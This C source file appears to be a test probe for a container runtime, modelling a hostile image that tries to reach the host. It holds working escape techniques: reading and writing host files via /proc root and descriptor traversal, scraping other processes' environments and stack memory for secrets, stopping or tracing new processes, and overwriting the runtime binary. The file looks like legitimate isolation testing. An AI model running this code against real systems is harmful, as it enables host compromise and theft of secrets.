/* What a hostile image does to reach the host through a process of lay:
 *   escape hunt CANARY     for ever: says "hunting", then whatever it gets of the file CANARY of the host by /proc/N/root
 *                          or a folder among the descriptors, or of SECRET in an environment or on a stack, of
 *                          processes that it sees, which of them has all rights, and what mapped library it could write
 *   escape stop -          for ever: says "hunting" and stops every process that comes
 *   escape hold -          for ever: says "hunting", traces every process that comes, and lets none go that has ended
 *   escape write OUT       until lay's program, which stands open at descriptor 9, is not busy any more: appends to it,
 *                          and writes to OUT what came of it
 * Static: gcc -static. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <unistd.h>

static char text[1 << 18];

static void take_file(long process, const char* way, const char* canary) {
  char path[512];
  snprintf(path, sizeof path, "/proc/%ld/%s%s", process, way, canary);
  const int file = open(path, O_RDWR);
  if (file < 0) return;
  if (read(file, text, sizeof text) > 0) printf("read of %ld by %s\n", process, way);
  if (write(file, "owned\n", 6) == 6) printf("written through %ld by %s\n", process, way);
  close(file);
}

static void take_secret(long process, const char* name, off_t offset) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%ld/%s", process, name);
  const int file = open(path, O_RDONLY);
  if (file < 0) return;
  const ssize_t count = pread(file, text, sizeof text, offset);
  if (count > 0 && memmem(text, (size_t)count, "SECRET", 6)) printf("secret of %ld in %s\n", process, name);
  close(file);
}

/* Where the environment lies. */
static off_t top_of_stack(long process) {
  char path[64], line[512];
  unsigned long begin = 0, end = 0;
  snprintf(path, sizeof path, "/proc/%ld/maps", process);
  FILE* maps = fopen(path, "r");
  if (maps == NULL) return 0;
  while (fgets(line, sizeof line, maps) != NULL)
    if (strstr(line, "[stack]") != NULL && sscanf(line, "%lx-%lx", &begin, &end) == 2) break;
  fclose(maps);
  return (off_t)(end - begin > sizeof text ? end - sizeof text : begin);
}

static void look_at_rights(long process) {
  char path[64], line[256];
  unsigned long long rights = 0;
  snprintf(path, sizeof path, "/proc/%ld/status", process);
  FILE* status = fopen(path, "r");
  if (status == NULL) return;
  while (fgets(line, sizeof line, status) != NULL)
    if (sscanf(line, "CapEff: %llx", &rights) == 1 && (rights >> 21 & 1) != 0) printf("all rights of %ld\n", process);
  fclose(status);
}

static void take_libraries(long process) {
  char folder[64], path[512];
  snprintf(folder, sizeof folder, "/proc/%ld/map_files", process);
  DIR* files = opendir(folder);
  if (files == NULL) return;
  for (struct dirent* one = readdir(files); one != NULL; one = readdir(files)) {
    snprintf(path, sizeof path, "%s/%s", folder, one->d_name);
    const ssize_t length = readlink(path, text, sizeof text - 1);
    text[length > 0 ? length : 0] = 0;
    const int file = strstr(text, ".so") == NULL ? -1 : open(path, O_RDWR);
    if (file < 0) continue;
    printf("library of %ld: %s\n", process, text);
    close(file);
  }
  closedir(files);
}

static void look_at(long process, const char* canary) {
  char way[64];
  look_at_rights(process);
  take_libraries(process);
  take_file(process, "root", canary);
  for (int fd = 3; fd < 40; ++fd) {
    snprintf(way, sizeof way, "fd/%d/../../../../../../../..", fd);
    take_file(process, way, canary);
  }
  take_secret(process, "environ", 0);
  const off_t stack = top_of_stack(process);
  if (stack != 0) take_secret(process, "mem", stack);
}

static int hunt(const char* canary) {
  puts("hunting");
  /* What is new is looked for most of the time: a process that exec starts lives for a moment as something else. */
  long known = getpid();
  for (;;) {
    for (long process = 2; process < known; ++process)
      if (process != getpid()) look_at(process, canary);
    for (int looks = 0; looks < 2000; ++looks)
      for (long process = known + 1; process < known + 3; ++process)
        if (kill((pid_t)process, 0) == 0) look_at(known = process, canary);
  }
}

static int stop_all(void) {
  puts("hunting");
  for (pid_t known = getpid();;)
    for (pid_t process = known + 1; process < known + 3; ++process)
      if (kill(process, SIGSTOP) == 0) known = process;
}

static int hold_all(void) {
  puts("hunting");
  for (pid_t known = getpid();;)
    for (pid_t process = known + 1; process < known + 3; ++process)
      if (ptrace(PTRACE_SEIZE, process, 0, 0) == 0) known = process;
}

static int write_to_program(const char* out) {
  prctl(PR_SET_PDEATHSIG, 0);
  for (int tries = 0; tries < 3000; ++tries) {
    const int program = open("/proc/self/fd/9", O_WRONLY | O_APPEND);
    if (program < 0 && errno == ETXTBSY) {
      usleep(10000);
      continue;
    }
    FILE* said = fopen(out, "w");
    fprintf(said, "%s\n", program < 0 ? strerror(errno) : write(program, "owned", 5) == 5 ? "written" : "opened");
    fclose(said);
    return 0;
  }
  return 1;
}

int main(int count, char** words) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (count != 3) return 2;
  if (strcmp(words[1], "stop") == 0) return stop_all();
  if (strcmp(words[1], "hold") == 0) return hold_all();
  return strcmp(words[1], "hunt") == 0 ? hunt(words[2]) : write_to_program(words[2]);
}
